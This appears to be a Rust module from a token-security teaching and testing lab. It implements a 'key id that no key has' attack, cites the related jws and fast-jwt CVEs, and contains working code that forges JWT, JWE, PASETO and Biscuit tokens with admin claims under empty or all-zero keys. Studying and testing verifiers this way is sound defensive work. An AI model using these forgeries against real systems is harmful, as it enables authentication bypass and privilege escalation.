//! A name that no key has: the lookup finds nothing, and nothing is a key.
//!
//! The flawed assumption: a lookup either finds the right key or stops. A map
//! answers a missing name with `undefined`, with `''`, with an array of zeros,
//! and what comes next takes that for a key. Bitten: npm jws to 3.2.2 and 4.0.0
//! by `createVerify` (CVE-2025-65945), npm fast-jwt before 6.2.4 where the
//! caller's function returns an empty string (CVE-2026-44351).
//!
//! The PASETO specification demands of such a lookup that it fails closed
//! (Payload-Processing, Key-ID Support); it is code of the application, so the
//! demand can be missed in the same way. A Biscuit names its root key by a
//! number, and of a session a miss is the ordinary refusal.

use serde_json::{Map, Value};
use tokenlab_harness::Key;

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::{AttackerView, footer_with_kid};
use crate::biscuit;
use crate::card::AttackProfile;
use crate::hs::Hs;
use crate::jwe::{self, Recipient};
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::{JwsAlgorithm, Purpose, Scheme};
use crate::stand_in::analogues;
use crate::weakness::Weakness;

pub(super) struct KidMissFailOpen;

static PROFILE: AttackProfile = AttackProfile {
    id: "kid-miss-fail-open",
    title: "Name that no key has",
    assumption: "A lookup finds the right key or stops.",
    class: AttackClass::Signature,
    given: &[],
    isolated: false,
    breaks: &[Weakness::KidMissFailsOpen],
    references: &[
        (
            "RFC 8725 §3.10",
            "kid is received data, and a lookup by it is guarded against what it may say.",
        ),
        (
            "RFC 7518 §3.2",
            "The key of an HMAC has at least as many bytes as the hash, so that no bytes are no key.",
        ),
        (
            "CVE-2025-65945",
            "npm jws to 3.2.2, and 4.0.0, by createVerify; fixed in 3.2.3 and 4.0.1.",
        ),
        (
            "CVE-2026-44351",
            "npm fast-jwt before 6.2.4 where the caller's function returns an empty string for an unknown kid.",
        ),
        (
            "PASETO, Payload-Processing, Key-ID Support",
            "A lookup by the footer must fail closed.",
        ),
    ],
    lesson: include_str!("../../lessons/kid-miss-fail-open.md"),
};

/// Spelled like the name of a key, and nobody's.
const NAME: &str = "no-such-key";

/// The one variant of every family but Biscuit and sessions.
const VARIANT: &str = "unknown-kid";

impl Attack for KidMissFailOpen {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        match view.scheme() {
            Scheme::Jwt(algorithm) => Ok(vec![jwt(view, algorithm, notes)?]),
            Scheme::Jwe(..) => {
                notes.variant_step(
                    VARIANT,
                    "Names a key that does not exist, and encrypts the claims, in which the subject is admin, under zeros.",
                    NAME,
                );
                let header = Map::from_iter([("kid".to_owned(), NAME.into())]);
                let payload = mint::jwt_payload(view.wanted())?;
                let recipient = Recipient::Direct(vec![0; 32]);
                let token = jwe::seal(&recipient, &header, payload.as_bytes())?;
                Ok(vec![Forgery::new(VARIANT, token)])
            }
            Scheme::Paseto(_, Purpose::Local) => {
                let key = Key::Secret(vec![0; 32]);
                let token = mint::paseto(view.scheme(), &key, view.wanted(), &footer_with_kid(NAME))?;
                Ok(analogues(
                    notes,
                    "PASETO has no kid header; the footer names the key, and 32 zeros stand for none",
                    [(
                        VARIANT,
                        "Names a key that does not exist in the footer, and encrypts under 32 zeros. The subject is admin.",
                        token,
                    )],
                ))
            }
            Scheme::Paseto(_, Purpose::Public) => Ok(analogues(
                notes,
                "PASETO has no kid header; the footer names the key, and a key pair of hers stands for none",
                [(
                    VARIANT,
                    "Names a key that does not exist in the footer, and signs with a key of her own. The subject is admin.",
                    view.token_by_own_key(NAME)?,
                )],
            )),
            Scheme::Biscuit => {
                let named = biscuit::Value::Number(4_000_000_000);
                let token = view.biscuit_by_own_key()?.with(biscuit::ROOT_KEY_ID, named);
                Ok(analogues(
                    notes,
                    "a biscuit names its root key by a number, so one that is nobody's takes the place of kid",
                    [(
                        "unknown-root-key-id",
                        "Names a root key that does not exist, and signs with one of her own. The subject is admin.",
                        token.to_token(),
                    )],
                ))
            }
            Scheme::Session(_) => Err(CannotForge::Inexpressible {
                why: "a session has no key: an id that is not found is refused, and that is all there is"
                    .into(),
                tried: analogues(
                    notes,
                    "an id that nobody was given takes the place of the unknown name",
                    [(
                        "unknown-id",
                        "Sends an id that nobody was given.",
                        mint::part([0x5a; 32]),
                    )],
                ),
            }),
        }
    }
}

/// An HMAC under no bytes, by the name of nobody's key.
fn jwt(
    view: &AttackerView<'_>,
    algorithm: JwsAlgorithm,
    notes: &mut Notebook,
) -> Result<Forgery, CannotForge> {
    let mut header = view.header_with_kid(NAME);
    let signature = if algorithm.is_shared() {
        Signature::By(algorithm, Key::Secret(Vec::new()))
    } else {
        header.insert("alg".into(), Hs::S256.name().into());
        Signature::Tag(Hs::S256, Vec::new())
    };
    notes.variant_step(
        VARIANT,
        "Names a key that does not exist.",
        Value::Object(header.clone()).to_string(),
    );
    notes.variant_step(
        VARIANT,
        "Computes an HMAC with no bytes as the secret, over claims in which the subject is admin.",
        mint::jwt_payload(view.wanted())?,
    );
    Ok(Forgery::new(
        VARIANT,
        mint::jws(&header, view.wanted(), &signature)?,
    ))
}
